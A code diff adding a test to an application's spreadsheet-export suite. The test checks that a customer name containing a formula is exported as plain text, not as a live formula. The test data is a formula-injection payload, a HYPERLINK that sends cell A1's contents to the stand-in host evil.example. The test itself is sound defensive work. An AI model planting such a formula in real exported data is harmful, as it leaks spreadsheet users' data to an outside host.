@@ -126,3 +126,21 @@ def test_the_header_follows_the_readers_language(  # type: ignore[no-untyped-def
     name = catalogue.get("Name")
     assert name is not None and name.string
     assert rows[0][1] == name.string  # the catalogue's word for "Name"
+
+
+def test_text_from_the_feeds_is_never_a_formula(  # type: ignore[no-untyped-def]
+        client, login, engine, book_bank) -> None:
+    from sqlalchemy import update
+
+    from integration.models import Customer
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with Session(engine) as session, session.begin():
+        session.execute(update(Customer).where(Customer.id == book_bank.ids["C1"])
+                        .values(name=hostile))
+    login("rm1")
+    response = client.get("/book/export.xlsx?sort=name")
+    sheet = load_workbook(BytesIO(response.get_data())).active
+    names = [dict(zip(COLUMNS, row))["name"] for row in sheet.iter_rows(min_row=2)]
+    [cell] = [cell for cell in names if cell.value == hostile]
+    assert cell.data_type == "s"  # a string cell: Excel shows the text, never runs it
